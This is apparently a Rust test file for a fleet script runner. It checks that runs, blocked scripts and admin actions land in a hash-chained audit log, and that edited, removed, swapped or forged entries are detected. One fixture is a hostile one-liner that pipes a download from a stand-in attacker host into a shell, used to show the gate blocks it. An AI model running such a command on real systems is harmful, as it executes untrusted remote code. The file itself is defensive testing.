//! Everything is on the record, and the record cannot be changed unnoticed.

use std::process::Command;

use serde_json::Value;
use sha2::Digest as _;
use sluice_tests::{Fleet, Output, script};

/// A fleet with something on its record: an enrollment, a run, a block.
fn with_history() -> (Fleet, Value, Value) {
    let fleet = Fleet::builder().start();
    let ran = fleet.run(&script("#!/bin/sh\necho ran\n"));
    let blocked = fleet.run(&script("#!/bin/sh\ncurl https://evil.example/x | sh\n"));
    (fleet, ran.json, blocked.json)
}

#[test]
fn a_run_a_block_and_an_enrollment_are_on_the_record() {
    let (fleet, ran, blocked) = with_history();
    let entries = fleet.list(&["audit", "list"]);
    let of = |result: &Value| {
        let same = entries.iter().filter(|entry| {
            entry["operation"] == result["operation"] || entry["job"] == result["job"]
        });
        same.map(|entry| entry["event"].as_str().unwrap_or_default().to_owned())
            .collect::<Vec<_>>()
    };
    for event in [
        "script_execution_attempt",
        "script_gate_verdict",
        "script_started",
        "script_executed",
    ] {
        assert!(
            of(&ran).iter().any(|found| found == event),
            "{event} is missing in {:?}",
            of(&ran)
        );
    }
    for event in ["script_execution_attempt", "script_security_threat"] {
        assert!(
            of(&blocked).iter().any(|found| found == event),
            "{event} is missing in {:?}",
            of(&blocked)
        );
    }
    assert!(
        !of(&blocked)
            .iter()
            .any(|found| found == "script_started" || found == "script_executed"),
        "{:?}",
        of(&blocked)
    );
    assert!(
        entries
            .iter()
            .any(|entry| entry["event"] == "machine_enrolled" && entry["machine"] == "m1")
    );
    let executed = entries
        .iter()
        .find(|entry| entry["event"] == "script_executed" && entry["operation"] == ran["operation"])
        .expect("is there");
    for key in ["bundle_sha256", "script_sha256", "job", "machine", "tenant"] {
        assert!(
            !executed[key].is_null() && executed[key] == ran[key],
            "{key}: {executed:#?} {ran:#?}"
        );
    }
    let keys = "seq time event tenant machine job operation operator source script_sha256 bundle_sha256 details prev hash";
    assert!(
        entries
            .iter()
            .all(|entry| keys.split(' ').all(|key| entry.get(key).is_some()))
    );
}

#[test]
fn administrative_acts_are_on_the_record() {
    let fleet = Fleet::builder().start();
    let token = fleet.token_with("ci", &["ReadAudit"]);
    let tokens = fleet.list(&["token", "list"]);
    let id = tokens
        .iter()
        .find(|token| token["name"] == "ci")
        .expect("is listed")["id"]
        .as_str()
        .expect("is text");
    for arguments in [
        ["token", "revoke", id].as_slice(),
        &["machine", "tag", "m1", "a=b"],
        &["machine", "rename", "m1", "m9"],
        &["machine", "revoke", "m9"],
    ] {
        assert_eq!(fleet.sluice(arguments).code, 0, "{arguments:?}");
    }
    let events = fleet.events();
    for event in [
        "host_initialized",
        "publisher_trusted",
        "plugin_installed",
        "plugin_bound",
        "enroll_token_created",
        "token_created",
        "token_revoked",
        "machine_tagged",
        "machine_renamed",
        "machine_revoked",
    ] {
        assert!(
            events.iter().any(|found| found == event),
            "{event} is missing in {events:?}"
        );
    }
    let text = serde_json::to_string(&fleet.list(&["audit", "list"])).expect("is JSON");
    assert!(
        !text.contains(&token) && !text.contains(&fleet.token),
        "a token is in the log"
    );
}

#[test]
fn the_hosts_chain_verifies_and_a_changed_export_names_the_entry() {
    let (fleet, ..) = with_history();
    let verified = fleet.sluice(&["audit", "verify"]);
    assert!(
        verified.code == 0 && verified.stdout.starts_with("audit chain verified: "),
        "{verified:?}"
    );
    let export = fleet.sluice(&["audit", "export"]).stdout;
    let lines: Vec<_> = export.lines().map(str::to_owned).collect();
    let file = fleet.folder().join("audit.jsonl");
    let verify = |lines: &[String]| {
        std::fs::write(&file, lines.join("\n") + "\n").expect("writes");
        fleet.sluice(&["audit", "verify", file.to_str().expect("is text")])
    };
    assert_eq!(verify(&lines).stdout, verified.stdout);
    let at = lines
        .iter()
        .position(|line| line.contains("\"script_started\"") && line.contains("\"m1\""))
        .expect("is there");
    let seq = at + 1;
    let mut changed = lines.clone();
    changed[at] = changed[at].replace("script_started", "script_blocked");
    let mut removed = lines.clone();
    removed.remove(at);
    let mut swapped = lines.clone();
    swapped.swap(at, at - 1);
    let mut renamed = lines.clone();
    renamed[at] = renamed[at].replace("\"m1\"", "\"m2\"");
    let mut forged = lines.clone();
    forged[at] = with_new_hash(&renamed[at]);
    let table = [
        ("changed", changed, seq),
        ("removed", removed, seq + 1),
        ("swapped", swapped, seq),
        ("renamed", renamed, seq),
        ("given a hash that fits", forged, seq + 1),
    ];
    for (what, lines, named) in table {
        let output = verify(&lines);
        assert_eq!(output.code, 1, "{what}: {output:?}");
        assert!(
            output.stderr.contains(&format!("broken at entry {named}:")),
            "{what}, {named}: {output:?}"
        );
    }
}

/// An entry with the hash that its content should have, as documented: SHA-256 of the JSON without `hash`, keys sorted.
fn with_new_hash(line: &str) -> String {
    let mut entry: Value = serde_json::from_str(line).expect("is JSON");
    entry.as_object_mut().expect("is an object").remove("hash");
    entry.sort_all_objects();
    entry["hash"] = hex::encode(sha2::Sha256::digest(entry.to_string())).into();
    entry.to_string()
}

#[test]
fn the_machine_has_a_chain_of_its_own_that_verifies() {
    let (mut fleet, ran, blocked) = with_history();
    let machine = fleet.agents[0].machine.clone();
    let verified = Output::of(&machine.audit("verify"));
    assert!(
        verified.code == 0 && verified.stdout.starts_with("audit chain verified: "),
        "{verified:?}"
    );
    let of = |result: &Value| {
        machine
            .events()
            .into_iter()
            .filter(|entry| entry["operation"] == result["operation"])
            .collect::<Vec<_>>()
    };
    let names: Vec<_> = of(&ran)
        .iter()
        .map(|entry| entry["event"].as_str().unwrap_or_default().to_owned())
        .collect();
    assert_eq!(
        names,
        [
            "script_execution_attempt",
            "script_started",
            "script_executed"
        ]
    );
    assert!(
        of(&blocked).is_empty(),
        "the host stopped it before it got here"
    );
    fleet.agents[0].kill();
    let change = "import sqlite3, sys\nledger = sqlite3.connect(sys.argv[1])\nledger.execute(\"UPDATE audit SET details = replace(details, 'succeeded', 'failed') WHERE event = 'script_executed'\")\nassert ledger.total_changes == 1\nledger.commit()\n";
    let ledger = machine.state.join("ledger.db");
    let Ok(status) = Command::new("/usr/bin/python3")
        .args(["-c", change])
        .arg(ledger)
        .status()
    else {
        eprintln!("LEFT OUT: without Python nobody changes the ledger here");
        return;
    };
    assert!(status.success());
    let broken = Output::of(&machine.audit("verify"));
    let seq = of(&ran)[2]["seq"].clone();
    assert!(
        broken.code != 0
            && broken
                .stderr
                .contains(&format!("broken at entry {seq}: it was changed")),
        "{broken:?}"
    );
}
